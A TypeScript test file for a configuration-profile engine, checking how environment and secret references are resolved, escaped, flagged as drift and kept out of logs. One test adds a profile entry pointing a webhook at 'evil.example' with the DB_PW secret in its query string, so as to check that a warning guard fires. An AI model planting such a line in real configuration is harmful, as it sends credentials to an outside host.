// References in profiles: what live files, drift, saving and new profiles make of them.
import assert from 'node:assert/strict';
import { readdir, readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { suite, test } from 'node:test';
import fc from 'fast-check';
import { driftOf, EngineError, type Engine } from '../../src/engine/index.ts';
import { perform, testFolder, type Files } from '../support/disk/configFolder.ts';
import { processorMs } from '../support/processorTime.ts';
import { randomRuns } from '../support/sizes.ts';
import { testUser } from '../support/disk/testUser.ts';

const profile =
  '# ours\ndb:\n  user: app\n  password: ${env:DB_PW} # from outside\n  url: "pg://app:${env:DB_PW}@h/${NAME}"\nlog: $${env:HOME}\nlevel: ${env:LEVEL:-info}\n';
const files: Files = { 'current.yaml': 'a: 1\n', 'profiles/p.yaml': profile };
type Environment = Record<string, string | undefined>;

async function opened(content: Files = files, environment: Environment = { DB_PW: 'correct-horse' }) {
  const folder = await testFolder('references', content);
  const user = testUser(undefined, environment);
  return { ...folder, environment, reopen: () => folder.open({ user }), engine: await folder.open({ user }) };
}

const kinds = async (engine: Engine) => driftOf(await engine.snapshot()).map(({ kind }) => kind);

suite('references', () => {
  test('of the application itself are escaped in profiles that are made of its files, and saved to them', async () => {
    const live = '{\n  // its own\n  "path": "${env:DB_PW}/bin", // kept\n  "x": 1\n}\n';
    const { engine, text, write } = await opened({
      'current.jsonc': live,
      'extra.json': '{"a": "${secret:A}"}',
    });
    const escaped = live.replaceAll('${', () => '$${');
    await perform(engine, { kind: 'set-up', live: 'current.jsonc', profile: 'dev' });
    assert.equal(await text('profiles/dev.jsonc'), escaped);
    assert.deepEqual(await kinds(engine), []);
    await perform(engine, { kind: 'create-profile', name: 'other', source: { kind: 'current' } });
    assert.equal(await text('profiles/other.jsonc'), escaped);
    const plan = await engine.plan({ kind: 'switch', profile: 'other' });
    assert.deepEqual([plan.writes, plan.guards], [[], []]);
    await write({ 'current.jsonc': live.replace('"x": 1', '"x": "${secret:A}"') });
    await perform(engine, { kind: 'save-to-profile' });
    assert.equal(
      await text('profiles/dev.jsonc'),
      escaped.replace('"x": 1', () => '"x": "$${secret:A}"'),
    );
    assert.deepEqual(await kinds(engine), []);
    await perform(engine, { kind: 'add-target', live: 'extra.json' });
    assert.equal(await text('profiles/dev/extra.json'), '{"a": "$${secret:A}"}');
    assert.deepEqual(await kinds(engine), []);
  });

  test('are resolved in the live file, whole and inside texts, and nothing else is', async () => {
    const { engine, text } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    assert.equal(
      await text('current.yaml'),
      '# ours\ndb:\n  user: app\n  password: correct-horse # from outside\n  url: "pg://app:correct-horse@h/${NAME}"\nlog: ${env:HOME}\nlevel: info\n',
    );
    assert.equal(await text('profiles/p.yaml'), profile);
    assert.deepEqual(await kinds(engine), []);
  });

  test('that are missing stop the switch, with their place, and write nothing', async () => {
    for (const environment of [{}, { DB_PW: '' }]) {
      const { engine, text } = await opened(files, environment);
      await assert.rejects(engine.plan({ kind: 'switch', profile: 'p' }), (error: unknown) => {
        assert.ok(error instanceof EngineError);
        assert.equal(error.code, 'invalid');
        assert.match(error.message, /profiles\/p\.yaml:4:3: .*DB_PW isn't set/);
        return true;
      });
      assert.equal(await text('current.yaml'), 'a: 1\n');
    }
  });

  test('that are malformed are problems, not texts', async () => {
    for (const bad of ['${env:}', '${env:A B}', '${secret:X', '${env:A:-${env:B}}']) {
      const { engine } = await opened({ ...files, 'profiles/p.yaml': `a: '${bad}'\n` });
      await assert.rejects(engine.plan({ kind: 'switch', profile: 'p' }), /isn't a reference/, bad);
    }
  });

  test('that change make the profile outdated, and reapplying writes the new value', async () => {
    const { engine, text, environment } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    environment['DB_PW'] = 'battery-staple';
    assert.deepEqual(await kinds(engine), ['outdated']);
    await perform(engine, { kind: 'switch', profile: 'p' });
    assert.match((await text('current.yaml')) ?? '', /password: battery-staple #/);
    assert.deepEqual(await kinds(engine), []);
  });

  test('that went away are no drift, but a problem at their place', async () => {
    const { engine, environment, write, text } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    delete environment['DB_PW'];
    assert.deepEqual(await kinds(engine), []);
    const { problems } = await engine.snapshot();
    assert.deepEqual(
      problems.map(({ file, line, pointer }) => [file, line, pointer]),
      [
        ['profiles/p.yaml', 4, '/db/password'],
        ['profiles/p.yaml', 5, '/db/url'],
      ],
    );
    await write({ 'current.yaml': ((await text('current.yaml')) ?? '').replace('user: app', 'user: other') });
    assert.deepEqual(await kinds(engine), ['modified']);
    const plan = await engine.plan({ kind: 'save-to-profile' });
    assert.deepEqual(plan.guards, []);
    await engine.commit(plan);
    assert.equal(await text('profiles/p.yaml'), profile.replace('user: app', 'user: other'));
  });

  test('come back when the live file is saved, and are asked about where it says something else', async () => {
    const { engine, text, write } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    const live = (await text('current.yaml')) ?? '';
    await write({ 'current.yaml': `${live.replace('info', 'debug')}more: true\n` });
    const plan = await engine.plan({ kind: 'save-to-profile' });
    assert.deepEqual(
      plan.guards.map(({ code, message }) => [code, message.includes('/level')]),
      [['secret-in-profile', true]],
    );
    await perform(engine, { kind: 'save-to-profile' });
    assert.equal(
      await text('profiles/p.yaml'),
      `${profile.replace('${env:LEVEL:-info}', 'debug')}more: true\n`,
    );
    assert.deepEqual(await kinds(engine), []);
  });

  test('are told once, before a value comes into a live file for the first time', async () => {
    const { engine, write, text, reopen } = await opened();
    const plan = await engine.plan({ kind: 'switch', profile: 'p' });
    assert.deepEqual(
      plan.guards.map(({ code }) => code),
      ['references', 'removed'],
    );
    assert.match(plan.guards[0]?.message ?? '', /environment variable DB_PW \(at \/db\/password\)/);
    assert.doesNotMatch(plan.guards[0]?.message ?? '', /correct-horse/);
    await assert.rejects(engine.commit(plan), /DB_PW/);
    await perform(engine, { kind: 'switch', profile: 'p' });
    await write({ 'current.yaml': 'a: 1\n' });
    const again = await reopen();
    const next = await again.plan({ kind: 'switch', profile: 'p' });
    assert.deepEqual(
      next.guards.map(({ code }) => code),
      ['removed'],
    );
    await write({ 'profiles/p.yaml': `${profile}webhook: "https://evil.example/?\${env:DB_PW}"\n` });
    const other = await again.plan({ kind: 'switch', profile: 'p' });
    assert.deepEqual(
      other.guards.map(({ message }) => message.includes('/webhook')),
      [true, false],
    );
    assert.equal(await text('current.yaml'), 'a: 1\n');
  });

  test('stay in a new profile that is made of live files, or of a profile', async () => {
    const { engine, text } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    await perform(engine, { kind: 'create-profile', name: 'q', source: { kind: 'current' } });
    await perform(engine, { kind: 'create-profile', name: 'r', source: { kind: 'profile', name: 'p' } });
    assert.equal(await text('profiles/q.yaml'), profile);
    assert.equal(await text('profiles/r.yaml'), profile);
  });

  test('find the active profile again where the record is lost', async () => {
    const { engine, path, reopen } = await opened();
    await perform(engine, { kind: 'switch', profile: 'p' });
    await rm(path('.safekeep'), { recursive: true });
    assert.equal((await (await reopen()).snapshot()).state.activeProfile, 'p');
  });

  test('in lists and in what aliases read follow what they stand in', async () => {
    const { engine, text, write } = await opened({
      'current.yaml': 'a: 1\n',
      'profiles/p.yaml': 'base: &b\n  key: ${env:DB_PW}\nother: *b\nlist:\n  - a\n  - token=${env:DB_PW}\n',
    });
    await perform(engine, { kind: 'switch', profile: 'p' });
    assert.equal(
      await text('current.yaml'),
      'base: &b\n  key: correct-horse\nother: *b\nlist:\n  - a\n  - token=correct-horse\n',
    );
    await write({
      'current.yaml': ((await text('current.yaml')) ?? '').replace('  - a\n', '  - new\n  - a\n'),
    });
    await perform(engine, { kind: 'save-to-profile' });
    assert.equal(
      await text('profiles/p.yaml'),
      'base: &b\n  key: ${env:DB_PW}\nother: *b\nlist:\n  - new\n  - a\n  - token=${env:DB_PW}\n',
    );
  });
});

const nameOfSecret = fc.constantFrom('A', 'B', 'C');
const valueOfSecret = fc.stringMatching(/^[ -~]{1,30}$/).filter((value) => !value.includes('$'));
const said = fc.oneof(
  nameOfSecret.map((name) => `\${env:${name}}`),
  fc.tuple(nameOfSecret, nameOfSecret).map(([one, other]) => `x\${env:${one}}-\${env:${other}:-d}y`),
  fc.constantFrom('plain', '${NAME}', '$${env:A}', 'no', '1.0'),
);
const contents = fc.record({
  a: said,
  list: fc.array(said, { maxLength: 4 }),
  map: fc.dictionary(fc.constantFrom('x', 'y', 'z'), said, { noNullPrototype: true }),
});

suite('random profiles with references', () => {
  test('are switched to, in step, and the same after a harmless edit of the live file is saved', async () => {
    const runs = fc.asyncProperty(
      fc.tuple(contents, contents),
      fc.tuple(valueOfSecret, valueOfSecret, valueOfSecret),
      fc.constantFrom('yaml', 'json'),
      async ([base, own], [A, B, C], format) => {
        const environment = { A, B, C };
        const profiles = {
          [`profiles/base.${format}`]: `${JSON.stringify(base, undefined, 2)}\n`,
          [`profiles/p.${format}`]: `${JSON.stringify({ $profile: { extends: 'base' }, ...own }, undefined, 2)}\n`,
        };
        const { engine, text, write } = await opened(
          { [`current.${format}`]: format === 'json' ? '{}\n' : 'z: 1\n', ...profiles },
          environment,
        );
        await perform(engine, { kind: 'switch', profile: 'p' });
        assert.deepEqual(await kinds(engine), []);
        const live = (await text(`current.${format}`)) ?? '';
        assert.doesNotMatch(live.replaceAll('${env:A}', ''), /\$\{env:/, 'but for the escape');
        await write({ [`current.${format}`]: live.replace(/\}\s*$/, ',\n  "added": true\n}\n') });
        await perform(engine, { kind: 'save-to-profile' });
        assert.deepEqual(await kinds(engine), []);
        assert.equal(await text(`profiles/base.${format}`), profiles[`profiles/base.${format}`]);
        const after = JSON.parse((await text(`profiles/p.${format}`)) ?? '') as object;
        assert.deepEqual(after, { $profile: { extends: 'base' }, ...own, added: true });
      },
    );
    await fc.assert(runs, { numRuns: randomRuns(80) });
  });

  test('leave no value in the records, the history, or a sentence', async () => {
    const secret = fc.stringMatching(/^[a-z]{4}[ -~]{8,20}[a-z]{4}$/).filter((value) => !value.includes('$'));
    const runs = fc.asyncProperty(contents, fc.tuple(secret, secret, secret), async (own, [A, B, C]) => {
      const environment: Environment = { A, B, C };
      const { engine, folder } = await opened(
        { 'current.yaml': 'z: 1\n', 'profiles/p.yaml': `${JSON.stringify(own)}\n` },
        environment,
      );
      const plans = [await perform(engine, { kind: 'switch', profile: 'p' })];
      environment['A'] = `${B}${C}`;
      plans.push(await perform(engine, { kind: 'switch', profile: 'p' }));
      const { history, problems } = await engine.snapshot();
      const told = plans.map(({ guards, summary, notes }) => ({ guards, summary, notes }));
      const records = await readdir(join(folder, '.safekeep'), { recursive: true, withFileTypes: true });
      const files = records.filter((entry) => entry.isFile());
      const texts = await Promise.all(
        files.map((entry) => readFile(join(entry.parentPath, entry.name), 'utf8')),
      );
      const all = [...texts, JSON.stringify({ history, problems, told })];
      for (const value of [A, B, C]) {
        const inJson = JSON.stringify(value).slice(1, -1);
        assert.ok(
          all.every((one) => !one.includes(value) && !one.includes(inJson)),
          value,
        );
      }
    });
    await fc.assert(runs, { numRuns: randomRuns(60) });
  });
});

suite('too many references', () => {
  test('are a problem, and cost no more than others', async () => {
    const lists = (count: number) => `[${Array.from({ length: count }, () => '"${env:DB_PW}"').join(', ')}]`;
    const profiles = {
      'profiles/long.yaml': `a: ${lists(2001)}\n`,
      'profiles/aliases.yaml': `a: &a ${lists(90)}\nb: [${Array.from({ length: 90 }, () => '*a').join(', ')}]\n`,
      'profiles/fits.yaml': `a: ${lists(1000)}\n`,
      'profiles/missing.yaml': `a: "${Array.from({ length: 500 }, (_, n) => `\${env:N${n}}`).join(' ')}"\n`,
    };
    const { engine } = await opened({ ...files, ...profiles });
    for (const profile of ['long', 'aliases'])
      await assert.rejects(engine.plan({ kind: 'switch', profile }), /too many references/, profile);
    await assert.rejects(engine.plan({ kind: 'switch', profile: 'missing' }), (error: unknown) => {
      assert.ok(error instanceof EngineError);
      const { problems } = error.details;
      assert.ok(Array.isArray(problems));
      assert.equal(problems.length, 100);
      return true;
    });
    const before = processorMs();
    await engine.plan({ kind: 'switch', profile: 'fits' });
    assert.ok(processorMs() - before < 3_000);
  });
});
